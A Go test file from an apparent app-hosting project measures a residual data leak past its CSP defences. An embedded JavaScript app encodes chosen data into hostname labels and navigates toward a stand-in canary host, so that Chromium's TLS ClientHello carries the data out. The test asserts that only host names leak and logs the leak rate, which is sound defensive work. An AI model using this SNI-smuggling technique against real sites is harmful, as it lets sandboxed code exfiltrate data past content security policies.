package hostkit_test

// The channel left after the defences (issue 11 item 5), measured: a
// navigation the CSP blocks still makes Chromium connect to its target and
// send a TLS ClientHello whose server name the app chose. The app frame
// navigating itself is such a navigation (the runner's frame-src blocks it;
// location is unforgeable, so no script can stop the attempt). A nested
// frame the app could navigate would be another, per frame: the app gets
// none. The test asserts that only the host name leaves (no request, no
// path, no query), that no nested frame does, and logs how many bytes of
// chosen data per second leave; docs/security.md carries the figures.

import (
	"fmt"
	"strings"
	"testing"
	"time"

	"github.com/snuggen/snuggen/hostkit"
	"github.com/snuggen/snuggen/internal/browsertest"
)

// residualApp loops for ms milliseconds over one channel, putting 180
// chosen characters in each host name (three 60-character labels).
const residualApp = `<!doctype html><title>residual</title><body><script>
  const chunk = (i) => { const s = String(i).padStart(6, "0"); return [0, 1, 2].map((k) => (s + "-").padEnd(60, "abcdefghijklmnopqrstuvwxyz0123456789"[k])).join("."); };
  const H = (i) => "https://" + chunk(i) + ".x-residual-canary.test:CANARY_PORT/path?query=secret";
  window.channels = {
    // The frame navigates itself; window.stop() ends the attempt before the
    // error page commits, so the app lives on and goes again.
    self(ms) { const end = Date.now() + ms; let i = 0; const t = setInterval(() => { if (Date.now() > end) return clearInterval(t); location.href = H(i++); window.stop(); }, 10); return true; },
    // The same in one task: the frame dies after it, the names are out.
    burst() { for (let i = 0; i < 500; i++) location.href = H(i); return true; },
    // A nested frame navigated to each name in turn.
    nested(ms) { const end = Date.now() + ms; let i = 0; let f; try { f = document.createElement("iframe"); } catch (e) { return e.message; } document.body.append(f); const t = setInterval(() => { if (Date.now() > end) return clearInterval(t); f.src = H(1000000 + i++); }, 10); return true; },
  };
</script>`

const chosenPerName = 3*60 + 2 // three labels and the dots between them

func TestBlockedNavigationsLeakOnlyHostNames(t *testing.T) {
	const window = 3 * time.Second
	for _, channel := range []string{"self", "burst", "nested"} {
		t.Run(channel, func(t *testing.T) {
			can := newCanary(t)
			doc := strings.ReplaceAll(residualApp, "CANARY_PORT", fmt.Sprint(can.port()))
			h := startHost(t, hostkit.WithApps(hostkit.BuiltApp("residual", []byte(doc), hostkit.Meta{DisplayName: "Residual"})))
			runner := openRunnerRaw(t, h, "residual")
			frame := runner.Frame(0)
			started := browsertest.Eval[any](t, frame, fmt.Sprintf(`window.channels[%q](%d)`, channel, window.Milliseconds()))
			// The app's loop runs for window (the measurement's length, not
			// a wait on an event); then settle for its last names to land
			// (an absence window: see settle).
			time.Sleep(window + settle)
			names := can.sniNames()
			_, lines := can.hits()
			for _, l := range lines {
				if !strings.HasPrefix(l, "TLS ") {
					t.Errorf("the canary got a request, not only a ClientHello: %q", l)
				}
			}
			chosen := 0
			for n := range names {
				if strings.HasSuffix(n, ".x-residual-canary.test") {
					chosen += chosenPerName
				}
			}
			if channel == "nested" && (started == true || len(names) != 0) {
				t.Errorf("a nested frame was made (%v) and %d names left through it", started, len(names))
			}
			state := browsertest.Eval[string](t, runner.Tab, `document.querySelector('article.instance').dataset.state`)
			t.Logf("residual %s channel: %d distinct host names received in %v (%d connections, %d bytes on the wire), %d chosen bytes, %.0f B/s of chosen data; the instance is %s after it",
				channel, len(names), window, can.conns.Load(), can.bytes.Load(), chosen, float64(chosen)/window.Seconds(), state)
		})
	}
}
